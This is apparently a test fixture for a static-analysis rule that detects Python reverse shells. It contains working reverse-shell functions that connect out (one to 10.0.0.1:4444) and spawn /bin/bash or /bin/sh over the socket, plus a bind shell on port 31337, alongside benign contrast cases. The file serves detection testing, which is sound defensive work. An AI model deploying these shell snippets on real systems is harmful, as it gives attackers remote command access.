"""Fixture for py-reverse-shell-socket.

RULEID: socket + os.dup2 onto stdio, subprocess with stdin bound to a socket, pty.spawn after dup2,
bind shell via accept().
OK: dup2 of a log file descriptor, a socket client that only sends data, pty.spawn of a non-shell.
"""
import os
import pty
import socket
import subprocess


def connect_back(host, port):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect((host, port))
    # ruleid: py-reverse-shell-socket
    os.dup2(s.fileno(), 0)
    # ruleid: py-reverse-shell-socket
    os.dup2(s.fileno(), 1)
    # ruleid: py-reverse-shell-socket
    os.dup2(s.fileno(), 2)
    # ruleid: py-reverse-shell-socket
    pty.spawn("/bin/bash")


def via_subprocess():
    s = socket.create_connection(("10.0.0.1", 4444))
    # ruleid: py-reverse-shell-socket
    subprocess.call(["/bin/sh", "-i"], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())


def bind_shell():
    srv = socket.socket()
    srv.bind(("0.0.0.0", 31337))
    srv.listen(1)
    conn, addr = srv.accept()
    # ruleid: py-reverse-shell-socket
    os.dup2(conn.fileno(), 0)
    # ruleid: py-reverse-shell-socket
    os.dup2(conn.fileno(), 1)
    subprocess.call(["/bin/sh"])


def redirect_logs(path):
    fd = os.open(path, os.O_WRONLY)
    # ok: py-reverse-shell-socket
    os.dup2(fd, 2)


def send_metrics(payload):
    s = socket.socket()
    s.connect(("metrics.internal", 2003))
    # ok: py-reverse-shell-socket
    s.sendall(payload)
    # ok: py-reverse-shell-socket
    subprocess.run(["hostname"], capture_output=True)


def record_session():
    # ok: py-reverse-shell-socket
    pty.spawn("/usr/bin/python3")
